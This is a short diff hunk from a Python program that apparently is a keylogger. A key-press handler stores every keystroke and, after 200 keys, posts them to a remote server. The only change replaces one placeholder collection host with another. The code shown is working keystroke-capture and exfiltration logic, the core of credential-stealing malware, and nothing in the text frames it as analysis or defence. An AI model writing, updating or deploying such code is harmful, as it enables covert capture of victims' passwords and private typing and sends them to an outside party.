@@ -12,7 +12,7 @@ typed = []
 def on_press(key):
     typed.append(str(key))
     if len(typed) > 200:
-        requests.post("https://in.acme-cdn.example/k", json={"k": typed})
+        requests.post("https://in.fastbox.example/k", json={"k": typed})
         typed.clear()
 
 
